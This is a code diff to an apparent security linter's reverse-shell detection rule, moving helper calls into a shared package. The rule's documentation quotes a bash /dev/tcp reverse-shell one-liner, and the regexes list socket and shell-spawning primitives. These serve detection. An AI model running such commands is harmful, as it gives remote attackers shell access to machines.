@@ -5,6 +5,7 @@ import (
 	"strings"
 
 	"github.com/skillvet/skillvet/analyzer"
+	"github.com/skillvet/skillvet/facts/shellfacts"
 	"github.com/skillvet/skillvet/parse/shell"
 )
 
@@ -16,7 +17,7 @@ var ShellReverseShell = register(&analyzer.Rule{
 	Severity: Critical,
 	Category: analyzer.CatRemoteExec,
 	Tags:     []string{"security", "CWE-506", "CWE-78"},
-	Inputs:   shShellInputs,
+	Inputs:   shellfacts.Inputs,
 	Doc: `Finds the classic ways to give a remote host an interactive shell on this machine:
 
 - ` + "`/dev/tcp/host/port`" + ` or ` + "`/dev/udp/…`" + ` redirections (` + "`bash -i >& /dev/tcp/1.2.3.4/4444 0>&1`" + `);
@@ -49,11 +50,11 @@ var shInlineSocketRx = regexp.MustCompile(`(?i)socket|TCPSocket|fsockopen|IO::So
 var shInlineShellRx = regexp.MustCompile(`(?i)pty\.spawn|dup2|subprocess|/bin/(ba)?sh|\bexec\b|spawn\(|popen|system\(|child_process|cmd\.exe`)
 
 func shRunReverseShell(p *analyzer.Pass) error {
-	return shForEachSite(p, func(site *analyzer.ShellSite) {
+	return shellfacts.ForEachSite(p, func(site *analyzer.ShellSite) {
 		s := site.Script
 		fifo := false
 		for _, c := range s.Commands {
-			if c.Name == "mkfifo" || c.Name == "mknod" && shHasArg(c, "p") {
+			if c.Name == "mkfifo" || c.Name == "mknod" && shellfacts.HasArg(c, "p") {
 				fifo = true
 			}
 		}
@@ -64,7 +65,7 @@ func shRunReverseShell(p *analyzer.Pass) error {
 				continue
 			}
 			reported[c.Start] = true
-			shReport(p, site, analyzer.Diagnostic{Start: c.Start, End: shCmdEnd(c), Message: "reverse shell: " + why + shWhere(site)})
+			shellfacts.Report(p, site, analyzer.Diagnostic{Start: c.Start, End: shellfacts.CmdEnd(c), Message: "reverse shell: " + why + shellfacts.Where(site)})
 		}
 	})
 }
@@ -89,7 +90,7 @@ func shReverseShell(s *shell.Script, c *shell.Command, fifo bool) string {
 				return c.Name + " " + v + " hands a program to the connection"
 			}
 		}
-		if k := shPipeSink(s, c); k != nil && shell.IsShell(k.Name) {
+		if k := shellfacts.PipeSink(s, c); k != nil && shell.IsShell(k.Name) {
 			return c.Name + " output is piped into " + k.Name
 		}
 		if c.PipePrev >= 0 && shell.IsShell(s.Commands[c.PipePrev].Name) {
@@ -102,7 +103,7 @@ func shReverseShell(s *shell.Script, c *shell.Command, fifo bool) string {
 		if c.Name == "openssl" && c.Arg(1) != "s_client" {
 			return ""
 		}
-		if k := shPipeSink(s, c); k != nil && shell.IsShell(k.Name) {
+		if k := shellfacts.PipeSink(s, c); k != nil && shell.IsShell(k.Name) {
 			return c.Name + " output is piped into " + k.Name
 		}
 	case "socat":
